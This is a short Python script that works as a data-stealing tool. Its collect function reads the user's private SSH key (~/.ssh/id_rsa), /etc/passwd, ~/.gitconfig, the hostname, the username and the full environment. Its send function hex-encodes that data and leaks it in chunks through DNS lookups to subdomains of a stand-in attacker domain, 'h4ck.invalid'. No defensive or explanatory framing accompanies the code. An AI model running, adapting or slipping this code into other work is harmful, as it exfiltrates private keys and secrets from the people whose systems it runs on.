import getpass
import os
import socket


def send(data, domain):
    for start in range(0, len(data), 60):
        try:
            socket.gethostbyname(f"{data[start:start + 60].hex()}.{domain}")
        except OSError:
            continue


def collect():
    found = {"host": socket.gethostname(), "user": getpass.getuser(), "here": os.getcwd(), "env": str(dict(os.environ))}
    for path in (os.path.expanduser("~/.ssh/id_rsa"), "/etc/passwd", os.path.expanduser("~/.gitconfig")):
        with open(path, "rb") as file:
            send(file.read(), "h4ck.invalid")
    send(str(found).encode(), "h4ck.invalid")
